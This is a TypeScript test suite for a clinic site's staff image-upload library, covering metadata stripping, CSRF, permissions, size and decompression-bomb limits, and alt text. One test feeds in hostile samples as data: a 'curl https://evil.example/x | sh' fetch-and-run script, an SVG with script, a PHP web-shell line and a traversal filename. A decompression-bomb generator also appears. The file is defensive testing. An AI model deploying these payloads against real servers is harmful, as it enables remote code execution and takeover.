import assert from 'node:assert/strict';
import zlib from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import sharp from 'sharp';
import { missingAltText, MEDIA_LIMITS, MediaRejected, renderVariants, storeUpload } from '../../src/media/media.service.js';
import { readFile } from '../../src/media/store.js';
import { demoApp, type TestApp } from '../helpers/app.js';
import { dialects } from '../helpers/db.js';
import { decode, text } from '../helpers/html.js';
import { signedIn, type StaffClient } from '../helpers/staff.js';
import { multipart, type Part } from '../helpers/multipart.js';


const cookieHeader = (c: StaffClient) => [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; ');

/** Posts an upload form: the client's current CSRF token first, unless `csrf` says otherwise. */
async function upload(app: TestApp, client: StaffClient | null, file: { filename: string; type: string; data: Buffer }, opts: { csrf?: string | null; alt?: string; csrfLast?: boolean } = {}) {
  const token = opts.csrf === undefined ? client?.csrf ?? '' : opts.csrf;
  const csrfPart: Part[] = token === null ? [] : [{ name: '_csrf', value: token }];
  const parts: Part[] = [
    ...(opts.csrfLast ? [] : csrfPart),
    { name: 'file', ...file },
    ...(opts.alt !== undefined ? [{ name: 'alt', value: opts.alt }] : []),
    ...(opts.csrfLast ? csrfPart : []),
  ];
  const { payload, contentType } = multipart(parts);
  return app.app.inject({
    method: 'POST',
    url: '/staff/media',
    headers: { 'content-type': contentType, ...(client ? { cookie: cookieHeader(client) } : {}) },
    payload,
  });
}

/** Where the GPS sub-IFD of a raw EXIF block points, and the tags it holds (null if it has none). */
function gpsTags(exif: Buffer): number[] | null {
  const t = exif.subarray(exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? 6 : 0);
  const le = t.toString('latin1', 0, 2) === 'II';
  const u16 = (i: number) => (le ? t.readUInt16LE(i) : t.readUInt16BE(i));
  const u32 = (i: number) => (le ? t.readUInt32LE(i) : t.readUInt32BE(i));
  const ifd0 = u32(4);
  for (let i = 0; i < u16(ifd0); i++) {
    const entry = ifd0 + 2 + i * 12;
    if (u16(entry) === 0x8825) {
      const gps = u32(entry + 8);
      return Array.from({ length: u16(gps) }, (_, j) => u16(gps + 2 + j * 12));
    }
  }
  return null;
}

/**
 * A camera-like JPEG: 1200×800 as stored, red top half and blue bottom half, EXIF orientation 6
 * (shown turned a quarter clockwise, so upright it is 800×1200 with red on the right), a camera
 * make and model, and a GPS position.
 */
async function cameraJpeg(): Promise<Buffer> {
  const red = await sharp({ create: { width: 1200, height: 400, channels: 3, background: '#d01010' } }).png().toBuffer();
  return sharp({ create: { width: 1200, height: 800, channels: 3, background: '#1030d0' } })
    .composite([{ input: red, top: 0, left: 0 }])
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'ClinicCam', Model: 'Test 1', Software: 'camera firmware 1.0' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 14/1 2/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 28/1 30/1' },
    })
    .toBuffer();
}

/** A valid 1-bit PNG declaring width × height: about 76 KB for 20000×20000, 400 megapixels once decoded. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil(width / 8);
  const raw = Buffer.alloc(rowBytes * height, 0xff);
  for (let y = 0; y < height; y++) raw[y * rowBytes] = 0; // filter type "none"
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

for (const dialect of dialects) {
  describe(`image library on ${dialect.name}`, () => {
    let app: TestApp;
    let editor: Awaited<ReturnType<typeof signedIn>>;

    /** The upload variants in the shared store, by file name. */
    const files = async () =>
      (await app.deps.db.selectFrom('media_file').select('path').where('path', 'like', 'media/%').execute()).map((r) => r.path.slice('media/'.length)).sort();
    const count = async (table: 'media' | 'media_blob' | 'media_blob_chunk') =>
      Number((await app.deps.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    const snapshot = async () => ({ rows: await count('media'), files: await files(), blobs: await count('media_blob'), chunks: await count('media_blob_chunk') });

    before(async () => {
      app = await demoApp(dialect);
      editor = await signedIn(app, ['editor']);
      const res = await editor.get('/staff/media');
      assert.equal(res.statusCode, 200);
    });
    after(() => app.close());

    test('the upload route is a /staff route that names media.write', () => {
      for (const [method, url] of [['GET', '/staff/media'], ['POST', '/staff/media'], ['POST', '/staff/media/:id/alt']]) {
        assert.deepEqual(
          app.staffRoutes.filter((r) => r.method === method && r.url === url).map((r) => r.permission),
          ['media.write'],
          `${method} ${url}`,
        );
      }
    });

    test('an editor uploads a camera photo: upright, metadata-free variants, one row and one audit event', async () => {
      const input = await cameraJpeg();
      // The test image really carries what must not survive.
      const inMeta = await sharp(input).metadata();
      assert.equal(inMeta.orientation, 6);
      assert.ok(inMeta.exif, 'input has EXIF');
      const gps = gpsTags(inMeta.exif!);
      assert.ok(gps && gps.includes(0x0002) && gps.includes(0x0004), `input has a GPS IFD with latitude and longitude (tags ${gps})`);
      assert.match(inMeta.exif!.toString('latin1'), /ClinicCam/);

      const before = await snapshot();
      const res = await upload(app, editor, { filename: '../../诊室\u202e照片 1.jpg', type: 'image/jpeg', data: input });
      assert.equal(res.statusCode, 303, res.body.slice(0, 500));
      const m = /^\/staff\/media\?msg=uploaded#media-(\d+)$/.exec(String(res.headers.location));
      assert.ok(m, String(res.headers.location));
      const id = Number(m[1]);

      const row = await app.deps.db.selectFrom('media').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
      assert.match(row.file_key, /^[0-9a-f]{24}$/);
      assert.equal(row.mime, 'image/jpeg');
      assert.deepEqual([row.width, row.height], [800, 1200], 'upright size of the upload');
      assert.equal(row.bytes, input.length);
      assert.equal(row.alt, '');
      assert.equal(row.original_name, '诊室照片 1.jpg', 'path and direction characters removed');
      assert.equal(row.created_by, editor.userId);
      assert.equal(row.created_at, app.clock.now.toISOString());

      const key = row.file_key;
      const expected = [
        [`${key}-1600.webp`, 'webp', 800, 1200],
        [`${key}-480.webp`, 'webp', 480, 720],
        [`${key}-960.jpg`, 'jpeg', 800, 1200],
        [`${key}-960.webp`, 'webp', 800, 1200],
      ] as const;
      assert.deepEqual(await files(), [...before.files, ...expected.map((e) => e[0])].sort(), 'only the re-encoded variants are stored');
      const variants = JSON.parse(row.variants_json) as { file: string; width: number; height: number; format: string; bytes: number }[];
      assert.equal(variants.length, 4);
      for (const [file, format, width, height] of expected) {
        const bytes = (await readFile(app.deps.db, `media/${file}`))!;
        assert.ok(!bytes.equals(input));
        const meta = await sharp(bytes).metadata();
        assert.equal(meta.format, format, file);
        assert.deepEqual([meta.width, meta.height], [width, height], `${file} is upright and never enlarged`);
        assert.equal(meta.exif, undefined, `${file} has no EXIF`);
        assert.equal(meta.xmp, undefined, `${file} has no XMP`);
        assert.equal(meta.iptc, undefined, `${file} has no IPTC`);
        assert.equal(meta.orientation, undefined, `${file} has no orientation tag`);
        assert.ok(!bytes.includes('ClinicCam') && !bytes.includes('GPS'), `${file} carries no camera text`);
        const v = variants.find((x) => x.file === file)!;
        assert.deepEqual([v.format, v.width, v.height, v.bytes], [format, width, height, bytes.length]);
        // Turned a quarter clockwise: the red top of the stored pixels is now on the right.
        const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
        const px = (x: number, y: number) => [...data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3)];
        const [lr, , lb] = px(5, info.height >> 1);
        const [rr, , rb] = px(info.width - 5, info.height >> 1);
        assert.ok(lb! > 150 && lr! < 80, `${file} is blue on the left: ${px(5, info.height >> 1)}`);
        assert.ok(rr! > 150 && rb! < 80, `${file} is red on the right: ${px(info.width - 5, info.height >> 1)}`);
      }

      const events = await app.deps.db.selectFrom('audit_event').selectAll().where('subject_type', '=', 'media').where('subject_id', '=', String(id)).execute();
      assert.equal(events.length, 1);
      assert.equal(events[0]!.action, 'media.upload');
      assert.equal(events[0]!.actor_user_id, editor.userId);
      assert.equal(JSON.parse(events[0]!.detail_json).file_key, key);

      // The variants are served; the library shows the thumbnail, the flag and the snippet.
      const served = await app.get(`/uploads/media/${key}-960.webp`);
      assert.equal(served.statusCode, 200);
      assert.equal(served.headers['content-type'], 'image/webp');
      const page = await editor.get('/staff/media?msg=uploaded');
      assert.equal(page.statusCode, 200);
      assert.ok(text(page.body).includes('图片已上传。'));
      const rowHtml = new RegExp(`<tr id="media-${id}">([\\s\\S]*?)</tr>`).exec(page.body)?.[1] ?? '';
      assert.match(rowHtml, new RegExp(`<img src="/uploads/media/${key}-480.webp" alt(="")? width="480" height="720"`), 'an empty alt is rendered as alt=""');
      assert.ok(text(rowHtml).includes('缺少替代文字'));
      assert.ok(decode(rowHtml).includes(`value="![](/uploads/media/${key}-960.webp)"`));
    });

    test('a script renamed photo.jpg, an SVG and a GIF are refused by their content, and nothing is stored', async () => {
      const before = await snapshot();
      const gif = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#888' } }).gif().toBuffer();
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>');
      for (const file of [
        { filename: 'photo.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n') },
        { filename: 'image.png', type: 'image/png', data: svg },
        { filename: 'anim.webp', type: 'image/webp', data: gif },
        // JPEG magic bytes followed by anything else: sharp cannot read it.
        { filename: 'fake.jpg', type: 'image/jpeg', data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<?php system($_GET[1]); ?>')]) },
      ]) {
        const res = await upload(app, editor, file);
        assert.equal(res.statusCode, 422, file.filename);
        assert.match(res.headers['content-type'] as string, /text\/html/);
        const body = text(res.body);
        assert.ok(/不是 JPEG、PNG 或 WebP 图片|无法读取这张图片/.test(body), `${file.filename}: ${body.slice(0, 300)}`);
        assert.ok(body.includes('上传图片'), 'the library page is shown again with its form');
      }
      const script = await upload(app, editor, { filename: 'photo.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\necho hi\n') });
      assert.ok(text(script.body).includes('这个文件不是 JPEG、PNG 或 WebP 图片'));
      assert.deepEqual(await snapshot(), before);
    });

    test('a file over the size limit gets a clear 413 page and nothing is stored', async () => {
      const before = await snapshot();
      const big = Buffer.alloc(MEDIA_LIMITS.maxBytes + 1, 0);
      big.set([0xff, 0xd8, 0xff, 0xe0]);
      // The token after the file: the rest of the form is still read once the file is cut off.
      const res = await upload(app, editor, { filename: 'huge.jpg', type: 'image/jpeg', data: big }, { csrfLast: true });
      assert.equal(res.statusCode, 413);
      assert.ok(text(res.body).includes('文件超过 10 MB 的上限'), text(res.body).slice(0, 400));
      assert.deepEqual(await snapshot(), before);
      // And without a token it is refused as a forgery, not reported as too large.
      const forged = await upload(app, editor, { filename: 'huge.jpg', type: 'image/jpeg', data: big }, { csrf: null });
      assert.equal(forged.statusCode, 403);
    });

    test('decompression bombs are refused before decoding, and nothing is stored', async () => {
      const before = await snapshot();
      const tiny = pngBomb(20000, 20000);
      const solid = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#f4f4f4' } }).png({ compressionLevel: 1 }).toBuffer();
      for (const [data, w, h] of [[tiny, 20000, 20000], [solid, 8000, 6000]] as const) {
        const meta = await sharp(data, { limitInputPixels: false }).metadata();
        assert.deepEqual([meta.format, meta.width, meta.height], ['png', w, h]);
        assert.ok(data.length < MEDIA_LIMITS.maxBytes, `small on the wire: ${data.length} bytes`);
        const res = await upload(app, editor, { filename: 'bomb.png', type: 'image/png', data });
        assert.equal(res.statusCode, 422);
        assert.ok(text(res.body).includes(`图片尺寸为 ${w}×${h} 像素，超过上限`), text(res.body).slice(0, 400));
      }
      assert.deepEqual(await snapshot(), before);
      // The decoder's own limit stands behind the header check.
      await assert.rejects(renderVariants(tiny, 'x'), (e) => e instanceof MediaRejected && e.code === 'too_many_pixels');
    });

    test('an upload without a valid CSRF token is refused with 403 and nothing is stored', async () => {
      const before = await snapshot();
      const data = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#0a0' } }).jpeg().toBuffer();
      for (const csrf of [null, '', 'not-a-token', `${editor.csrf}x`]) {
        const res = await upload(app, editor, { filename: 'ok.jpg', type: 'image/jpeg', data }, { csrf });
        assert.equal(res.statusCode, 403, `token ${csrf}`);
      }
      // A token in a second _csrf field does not count either.
      const { payload, contentType } = multipart([
        { name: '_csrf', value: editor.csrf },
        { name: '_csrf', value: 'other' },
        { name: 'file', filename: 'ok.jpg', type: 'image/jpeg', data },
      ]);
      const doubled = await app.app.inject({ method: 'POST', url: '/staff/media', headers: { 'content-type': contentType, cookie: cookieHeader(editor) }, payload });
      assert.equal(doubled.statusCode, 403);
      assert.deepEqual(await snapshot(), before);
      // The same upload with the token goes through.
      const ok = await upload(app, editor, { filename: 'ok.jpg', type: 'image/jpeg', data });
      assert.equal(ok.statusCode, 303);
    });

    test('the multipart parser exists only on the upload route; a form without a file is asked for one', async () => {
      await editor.get('/staff/media');
      const data = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#00a' } }).jpeg().toBuffer();
      const { payload, contentType } = multipart([
        { name: '_csrf', value: editor.csrf },
        { name: 'current', value: 'x' },
        { name: 'file', filename: 'a.jpg', type: 'image/jpeg', data },
      ]);
      const elsewhere = await app.app.inject({ method: 'POST', url: '/staff/account/password', headers: { 'content-type': contentType, cookie: cookieHeader(editor) }, payload });
      assert.equal(elsewhere.statusCode, 415);
      const before = await snapshot();
      const noFile = await editor.post('/staff/media', { alt: 'x' });
      assert.equal(noFile.statusCode, 422);
      assert.ok(text(noFile.body).includes('请选择要上传的图片文件'));
      const emptyInput = await upload(app, editor, { filename: '', type: 'application/octet-stream', data: Buffer.alloc(0) });
      assert.equal(emptyInput.statusCode, 422);
      assert.ok(text(emptyInput.body).includes('请选择要上传的图片文件'));
      const twoFiles = multipart([
        { name: '_csrf', value: editor.csrf },
        { name: 'file', filename: 'a.jpg', type: 'image/jpeg', data },
        { name: 'file', filename: 'b.jpg', type: 'image/jpeg', data },
      ]);
      const two = await app.app.inject({ method: 'POST', url: '/staff/media', headers: { 'content-type': twoFiles.contentType, cookie: cookieHeader(editor) }, payload: twoFiles.payload });
      assert.equal(two.statusCode, 400);
      assert.ok(text(two.body).includes('一次只选择一张图片'));
      assert.deepEqual(await snapshot(), before);
    });

    test('front desk staff and anonymous visitors cannot upload or open the library', async () => {
      const frontdesk = await signedIn(app, ['frontdesk']);
      await frontdesk.get('/staff');
      assert.ok(frontdesk.csrf);
      assert.equal((await frontdesk.get('/staff/media')).statusCode, 403);
      assert.ok(!(await frontdesk.get('/staff')).body.includes('href="/staff/media"'), 'no menu entry');
      const before = await snapshot();
      const data = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#a00' } }).png().toBuffer();
      assert.equal((await upload(app, frontdesk, { filename: 'x.png', type: 'image/png', data })).statusCode, 403);
      assert.equal((await upload(app, null, { filename: 'x.png', type: 'image/png', data }, { csrf: '' })).statusCode, 403);
      assert.equal((await app.get('/staff/media')).statusCode, 303, 'anonymous GET goes to the login page');
      const media = await app.deps.db.selectFrom('media').select('id').executeTakeFirstOrThrow();
      assert.equal((await frontdesk.post(`/staff/media/${media.id}/alt`, { alt: 'x' })).statusCode, 403);
      assert.deepEqual(await snapshot(), before);
    });

    test('alt text: flagged while empty, edited through an audited form, carried into the snippet', async () => {
      const data = await sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } }).png().toBuffer();
      const res = await upload(app, editor, { filename: 'transparent.png', type: 'image/png', data }, { alt: '  ' });
      assert.equal(res.statusCode, 303);
      const id = Number(/media-(\d+)/.exec(String(res.headers.location))![1]);
      const row = await app.deps.db.selectFrom('media').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
      assert.equal(row.alt, '');
      assert.equal(row.mime, 'image/png');
      // Narrower than every slot: each slot holds the image at its own width.
      for (const w of [480, 960, 1600]) assert.equal((await sharp((await readFile(app.deps.db, `media/${row.file_key}-${w}.webp`))!).metadata()).width, 300);
      assert.equal((await sharp((await readFile(app.deps.db, `media/${row.file_key}-960.jpg`))!).metadata()).hasAlpha, false);

      await editor.get('/staff/media');
      const rowOf = (html: string) => new RegExp(`<tr id="media-${id}">([\\s\\S]*?)</tr>`).exec(html)?.[1] ?? '';
      const alt = '术后第 3 天的面部照片 [示例]';
      const saved = await editor.post(`/staff/media/${id}/alt`, { alt: `  ${alt}\n` });
      assert.equal(saved.statusCode, 303);
      assert.equal(saved.headers.location, `/staff/media?msg=saved#media-${id}`);
      assert.equal((await app.deps.db.selectFrom('media').select('alt').where('id', '=', id).executeTakeFirstOrThrow()).alt, alt);
      const events = await app.deps.db.selectFrom('audit_event').selectAll().where('subject_type', '=', 'media').where('subject_id', '=', String(id)).orderBy('id').execute();
      assert.deepEqual(events.map((e) => e.action), ['media.upload', 'media.alt_changed']);
      assert.equal(events[1]!.actor_user_id, editor.userId);
      assert.deepEqual(JSON.parse(events[1]!.detail_json), { file_key: row.file_key, from: '', to: alt });

      const page = await editor.get('/staff/media?msg=saved');
      const html = rowOf(page.body);
      assert.ok(!text(html).includes('缺少替代文字'));
      assert.match(html, new RegExp(`<img src="/uploads/media/${row.file_key}-480.webp" alt="${alt.replace(/[[\]]/g, '\\$&')}"`));
      assert.ok(decode(html).includes(`value="![术后第 3 天的面部照片 \\[示例\\]](/uploads/media/${row.file_key}-960.webp)"`), decode(html));

      // The same text again changes nothing and records nothing.
      assert.equal((await editor.post(`/staff/media/${id}/alt`, { alt })).headers.location, `/staff/media?msg=altUnchanged#media-${id}`);
      // Too long, no token, an unknown or malformed id: refused, nothing recorded.
      const long = await editor.post(`/staff/media/${id}/alt`, { alt: '长'.repeat(301) });
      assert.equal(long.statusCode, 422);
      assert.ok(text(long.body).includes('替代文字不能超过 300 个字符'));
      assert.equal((await editor.post(`/staff/media/${id}/alt`, { alt: 'x', _csrf: null })).statusCode, 403);
      assert.equal((await editor.post('/staff/media/99999999/alt', { alt: 'x' })).statusCode, 404);
      assert.equal((await editor.post('/staff/media/abc/alt', { alt: 'x' })).statusCode, 400);
      const after = await app.deps.db.selectFrom('audit_event').select('id').where('subject_type', '=', 'media').where('subject_id', '=', String(id)).execute();
      assert.equal(after.length, 2);
      assert.equal((await app.deps.db.selectFrom('media').select('alt').where('id', '=', id).executeTakeFirstOrThrow()).alt, alt);
    });

    test('missingAltText names referenced images without alt text or without a row', async () => {
      const all = await app.deps.db.selectFrom('media').select(['file_key', 'alt']).orderBy('id').execute();
      const withAlt = all.find((m) => m.alt)!.file_key;
      const withoutAlt = all.find((m) => !m.alt)!.file_key;
      const unknown = 'ffffffffffffffffffffffff';
      const md = [
        `![${'示意图'}](/uploads/media/${withAlt}-960.webp)`,
        `![](/uploads/media/${withoutAlt}-960.webp)`,
        `正文 ![x](https://clinic.example/uploads/media/${withoutAlt}-480.webp)`,
        `![旧图](/uploads/media/${unknown}-960.webp)`,
        `[原图]: /uploads/media/${withAlt}-960.jpg`,
        '![外部](https://example.com/a.png) 和 /uploads/doctors/x.jpg',
      ].join('\n\n');
      assert.deepEqual(await missingAltText(app.deps.db, md), [withoutAlt, unknown]);
      assert.deepEqual(await missingAltText(app.deps.db, `![a](/uploads/media/${withAlt}-480.webp)`), []);
      assert.deepEqual(await missingAltText(app.deps.db, '没有图片的正文。'), []);
      // Inside the caller's transaction, as the publish gate calls it.
      assert.deepEqual(await app.deps.db.transaction().execute((trx) => missingAltText(trx, md)), [withoutAlt, unknown]);
    });

    test('when the database write fails, nothing is stored: no row, no path, no blob', async () => {
      const before = await snapshot();
      const data = await sharp({ create: { width: 100, height: 100, channels: 3, background: '#123' } }).webp().toBuffer();
      // An actor that does not exist breaks the foreign keys of both the media row and the audit event.
      await assert.rejects(
        storeUpload(app.deps.db, { dataDir: app.config.dataDir, actor: { userId: 987654321, name: 'x', ip: '127.0.0.1', userAgent: 't' }, now: app.clock.now }, { bytes: data, originalName: 'x.webp' }),
        (e) => !(e instanceof MediaRejected),
        'the image was accepted and the database refused the row',
      );
      assert.deepEqual(await snapshot(), before);
    });
  });
}
